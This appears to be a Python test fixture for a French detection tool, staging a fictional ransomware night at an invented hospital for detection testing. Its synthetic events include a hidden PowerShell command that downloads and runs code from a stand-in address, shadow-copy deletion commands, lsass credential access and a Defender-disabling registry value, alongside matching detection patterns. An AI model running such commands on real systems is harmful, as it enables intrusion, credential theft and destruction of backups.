"""A night at the Centre hospitalier de Valmont (fictif), made up: a phishing, a climb, backups deleted. No log is read."""

from collections import Counter
from datetime import UTC, datetime, timedelta

import pyarrow as pa

from rempart.detection.alerts.alert import Because, Reference
from rempart.detection.alerts.raised import FOLDED, Raising, raise_alerts
from rempart.detection.alerts.result import DetectionResult, result_of
from rempart.detection.census import Census
from rempart.detection.events import EventClass
from rempart.detection.findings import Findings, LeftOut
from rempart.detection.matched import CORRELATED, MATCHED
from rempart.detection.rules.form import About, And, Compiled, Correlation, Gather, Refusal, Rule, Scope
from rempart.measurement.text import Text

AT = datetime(2026, 11, 24, 3, 7, tzinfo=UTC)
EVENING = datetime(2026, 11, 23, 21, 0, tzinfo=UTC)
NAME = "Centre hospitalier de Valmont (fictif)"
ANY = And(())

# key: title, level, tags, source, code
RULES = {
    "macro": ("Un document lance une commande", "high", ("attack.initial-access", "attack.t1566.001"), "windows/sysmon", "1"),
    "powershell": ("PowerShell caché qui télécharge", "high", ("attack.execution", "attack.t1059.001"), "windows/sysmon", "1"),
    "beacon": ("Appels réguliers vers une adresse nue", "medium", ("attack.command-and-control", "attack.t1071.001"), "windows/sysmon", "3"),
    "lsass": ("Mémoire des mots de passe lue", "critical", ("attack.credential-access", "attack.t1003.001"), "windows/sysmon", "10"),
    "survey": ("Annuaire exploré par une commande", "medium", ("attack.discovery", "attack.t1087.002"), "windows/sysmon", "1"),
    "service": ("Service installé à distance (PsExec)", "high", ("attack.lateral-movement", "attack.t1021.002"), "windows/system", "7045"),
    "task": ("Tâche planifiée cachée", "medium", ("attack.persistence", "attack.t1053.005"), "windows/security", "4698"),
    "antivirus": ("Antivirus coupé", "high", ("attack.defense-impairment", "attack.t1685"), "windows/sysmon", "13"),
    "shadow": ("Copies de secours Windows supprimées", "critical", ("attack.impact", "attack.t1490"), "windows/sysmon", "1"),
    "veeam": ("Sauvegardes Veeam supprimées", "critical", ("attack.impact", "attack.t1490"), "windows/application", "0"),
    "sudo": ("Droit d'administration refusé (sudo)", "medium", ("attack.privilege-escalation", "attack.t1548.003"), "linux/syslog", "sudo"),
    "usb": ("Clé USB sur une station d'imagerie", "low", ("attack.initial-access", "attack.t1091"), "hospital/medical", "usb"),
    "failed": ("Échec de connexion au VPN", "low", ("attack.credential-access", "attack.t1110"), "hospital/vpn", "login"),
    "cloud": ("Règle de messagerie qui cache des messages", "medium", ("attack.stealth", "attack.t1564.008"), "cloud/m365", ""),
}  # fmt: skip
GATHERED = ("failed",)
NUMBERS = {key: number for number, key in enumerate(RULES)}


def about(key: str, title: str, level: str, tags: tuple[str, ...], logsource: str = "") -> About:
    return About(
        id=f"00000000-0000-4000-8000-{NUMBERS.get(key, 99):012d}",
        title=title,
        level=level,
        status="stable",
        author="Camille Renard, Valmont",
        licence="EUPL-1.2",
        description=f"{title} : ce que la règle cherche, en une phrase.",
        tags=tags,
        references=("https://attack.mitre.org/",),
        false_positives=("Travaux d'administration annoncés",),
        pack="rempart",
        path=f"{key}.yml",
        logsource=logsource,
    )


def compiled() -> Compiled:
    rules = tuple(
        Rule(
            about(key, title, level, tags, source),
            (Scope(source, (code,) if code else None, ANY),),
            key not in GATHERED,
        )
        for key, (title, level, tags, source, code) in RULES.items()
    )
    vpn = Correlation(
        about=about("vpn", "VPN deviné : nombreux échecs", "high", ("attack.credential-access", "attack.t1110.001")),
        gather=Gather.EVENT_COUNT,
        rules=(NUMBERS["failed"],),
        group_by=("User",),
        aliases=(),
        timespan=timedelta(minutes=10),
        condition=(),
    )
    refusal = Refusal(
        pack="sigmahq",
        path="rules/windows/regard.yml",
        title="Look-behind on a command line",
        reason=Text(fr="expression régulière à regard en arrière", en="regular expression with look-behind"),
    )
    return Compiled((), rules, (vpn,), (refusal,), (), "9f1c" * 16)


def when(clock: str) -> datetime:
    hours, minutes, *seconds = map(int, clock.split(":"))
    day = EVENING.replace(hour=0) + timedelta(days=hours < 12)
    return day + timedelta(hours=hours, minutes=minutes, seconds=seconds[0] if seconds else 0)


POSTE, SECOURS, DC, VEEAM = "PC-ADMISSION-14", "SRV-FICHIERS-02", "DC-VALMONT-01", "SRV-SAUVEGARDE"
OUT = "203.0.113.77"
# moment, rule, host, user, address, event, sought by field
STORY = [
    ("22:41", "macro", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "CommandLine": "cmd /c start powershell"}, {"ParentImage": "*\\WINWORD.EXE", "Image": "*\\cmd.exe"}),
    ("22:42", "powershell", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell -w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"}, {"CommandLine": "*-w hidden*"}),
    *((f"{clock}:{40:02d}", "beacon", POSTE, "VALMONT\\c.leroy", "10.20.14.31", {"Image": "C:\\Users\\Public\\svc.exe", "SourceIp": "10.20.14.31", "DestinationIp": OUT, "DestinationPort": "443", "Tour": clock}, {"DestinationIp": OUT}) for clock in ("22:44", "22:54", "23:04", "23:14", "23:24", "23:34", "23:44", "23:54", "00:04")),
    ("23:05", "survey", POSTE, "VALMONT\\c.leroy", "", {"Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net group \"Domain Admins\" /domain"}, {"CommandLine": "*domain admins*"}),
    ("23:31", "lsass", POSTE, "VALMONT\\c.leroy", "", {"SourceImage": "C:\\Users\\Public\\svc.exe", "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1410"}, {"TargetImage": "*\\lsass.exe", "GrantedAccess": "0x1410"}),
    ("00:12", "service", SECOURS, "VALMONT\\adm.martin", "10.20.14.31", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, {"ServiceName": "psexesvc"}),
    ("00:19", "service", DC, "VALMONT\\adm.martin", "10.20.14.31", {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}, {"ServiceName": "psexesvc"}),
    ("00:25", "task", DC, "VALMONT\\adm.martin", "", {"TaskName": "\\Microsoft\\Windows\\MajLocale", "TaskContent": "<Exec><Command>svc.exe</Command></Exec>"}, {"TaskContent": "*<Command>*"}),
    ("01:48", "antivirus", VEEAM, "VALMONT\\adm.martin", "", {"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "Details": "DWORD (0x00000001)"}, {"TargetObject": "*\\DisableAntiSpyware"}),
    ("02:14", "shadow", VEEAM, "VALMONT\\adm.martin", "", {"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin.exe Delete Shadows /All /Quiet"}, {"CommandLine": "*delete*shadows*"}),
    ("02:14:30", "shadow", VEEAM, "VALMONT\\adm.martin", "", {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine": "wmic shadowcopy delete"}, {"CommandLine": "*shadowcopy*delete*"}),
    ("02:16", "veeam", VEEAM, "VALMONT\\adm.martin", "", {"Message": "Backup « Dossier patient - quotidien » deleted by VALMONT\\adm.martin"}, {"Message": "*deleted*"}),
    ("23:50", "sudo", "web-intranet", "stagiaire", "", {"program": "sudo", "message": "stagiaire : user NOT in sudoers"}, {"message": "*NOT in sudoers*"}),
    ("02:40", "usb", "SCANNER-IRM-2", "", "", {"device": "USB DISK 3.0"}, {"device": "USB*"}),
    *((f"21:{10 + n:02d}", "failed", "vpn", "d.morel", "198.51.100.9", {"result": "failure"}, {"result": "failure"}) for n in range(8)),
]  # fmt: skip


def matched(story=None) -> pa.Table:
    rows = []
    for place, (clock, key, host, user, address, event, _) in enumerate(STORY if story is None else story):
        _, _, _, source, code = RULES[key]
        rows.append(
            {
                "rule": NUMBERS[key], "source": source, "code": code, "file": f"/journaux/{source.replace('/', '-')}.jsonl",
                "offset": place * 1000, "length": len(str(event)), "time": when(clock) if clock else None,
                "host": host or None, "user": user or None, "address": address or None,
            }
        )  # fmt: skip
    return pa.Table.from_pylist(rows, schema=MATCHED)


def correlated() -> pa.Table:
    rows = [place for place, told in enumerate(STORY) if told[1] == "failed"]
    burst = {
        "rule": len(RULES), "first": when("21:10"), "last": when("21:17"), "keys": ["d.morel"], "measured": 8.0, "rows": rows,
    }  # fmt: skip
    return pa.Table.from_pylist([burst], schema=CORRELATED)


def census() -> Census:
    census = Census(files=Counter({"evtx": 14, "json": 3, "syslog": 6, "unknown": 1}), bytes=18_400_000_000)
    for source, code, count in [
        ("windows/sysmon", "1", 812_400), ("windows/sysmon", "10", 96_120), ("windows/sysmon", "13", 1_204_000),
        ("windows/system", "7045", 31), ("windows/security", "4698", 12), ("windows/application", "0", 410),
        ("windows/sysmon", "3", 2_410_000), ("linux/syslog", "sudo", 640), ("hospital/vpn", "login", 1_870),
        ("hospital/medical", "usb", 4), ("unknown", "", 12_877),
    ]:  # fmt: skip
        census.events[EventClass(source, code)] = count
    census.undated = 41
    census.flaw("/journaux/evtx/PC-BLOC-03.evtx, enregistrement 88120", "bloc de données abîmé", 212)
    census.flaw("/journaux/syslog/coeur.log, octet 991200", "ligne de plus de 1 Mo coupée")
    return census


def findings() -> Findings:
    left_out = (LeftOut(rule=len(RULES), undated=3, keyless=1, valueless=0),)
    return Findings(compiled(), matched(), correlated(), census(), left_out)


def fetch(reference: Reference):
    return STORY[reference.offset // 1000][5]


def explain(_compiled, number, _event_class, event, _at):
    key = list(RULES)[number]
    told = next(sought for _, name, _, _, _, each, sought in STORY if name == key and each == event)
    return tuple(Because(field, sought, str(event[field])) for field, sought in told.items())


def alerts(raising: Raising = FOLDED):
    return raise_alerts(findings(), fetch, raising, explain=explain)


def result() -> DetectionResult:
    return result_of(findings(), alerts(), at=AT, name=NAME, finess="000000001")
